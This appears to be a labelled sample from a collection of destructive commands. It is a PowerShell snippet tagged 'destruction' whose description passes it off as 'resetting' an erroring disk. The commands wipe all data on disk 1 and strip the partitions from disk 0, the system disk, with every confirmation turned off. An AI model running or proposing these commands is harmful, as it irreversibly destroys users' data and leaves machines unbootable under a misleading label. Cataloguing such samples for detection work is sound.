# description: "Resets" a disk reporting errors by clearing all data on it and removing the system disk partitions.
# family: destruction
Get-Disk | Format-Table Number, FriendlyName, HealthStatus, PartitionStyle, Size
Clear-Disk -Number 1 -RemoveData -RemoveOEM -Confirm:$false
Get-Partition -DiskNumber 0 | Where-Object Type -ne 'Reserved' | Remove-Partition -Confirm:$false
Initialize-Disk -Number 1 -PartitionStyle GPT
